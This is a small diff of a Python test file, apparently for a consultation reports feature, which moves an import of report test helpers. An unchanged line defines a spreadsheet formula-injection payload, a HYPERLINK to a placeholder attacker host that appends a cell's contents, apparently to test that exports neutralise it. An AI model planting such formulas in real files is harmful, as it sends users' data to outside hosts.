@@ -14,8 +14,8 @@ import re
 from pathlib import Path
 
 from tests.conftest import csrf_from, sign_in
+from tests.consult.reports.test_reports import COMMITTEE, RESEARCHER, publish
 from tests.consult.seed import seed
-from tests.consult.test_reports import COMMITTEE, RESEARCHER, publish
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Housing")'
